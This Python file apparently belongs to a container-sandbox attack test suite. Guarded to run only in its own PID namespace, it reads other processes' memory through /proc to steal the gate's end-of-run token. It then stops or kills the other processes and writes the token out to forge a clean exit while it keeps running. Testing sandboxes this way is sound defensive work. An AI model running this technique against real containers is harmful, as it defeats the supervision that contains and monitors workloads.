# class: process
# tries: finds the word by which the gate of a container says that all is over, says it, lives on
# network: any
# bomb: yes
# timeout: 8
import os
import re
import signal
import time

HOST = "@PIDNS@"  # filled in by attack_suite.py
if not HOST.startswith("pid:") or os.readlink("/proc/self/ns/pid") == HOST:
    raise SystemExit("a bomb starts only in a pid namespace of its own")
word, gates = b"", []
for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
    try:
        areas = open(f"/proc/{pid}/maps").read()
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for start, end in re.findall(r"(?m)^([0-9a-f]+)-([0-9a-f]+) rw", areas):
                memory.seek(int(start, 16))
                text = memory.read(min(int(end, 16) - int(start, 16), 8 << 20)) or b""
                if pid != os.getpid() and (found := re.search(rb"word=([0-9a-f]{16})\0", text)):
                    word = found[1]
                    gates.append(pid)
                    break
    except (OSError, ValueError, OverflowError):
        pass
if not word:
    print("HELD: there is no word to be found")
    raise SystemExit
print("ATTEMPTED: the end is forged", flush=True)
for pid in gates:
    if pid != os.getppid():
        os.kill(pid, signal.SIGSTOP)
for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
    if pid not in (1, os.getpid(), *gates):
        os.kill(pid, signal.SIGKILL)
for fd in (1, 2):
    os.write(fd, b"\0" + word + b" 0 0 0 0 0\n")
for _ in range(60):
    time.sleep(1)
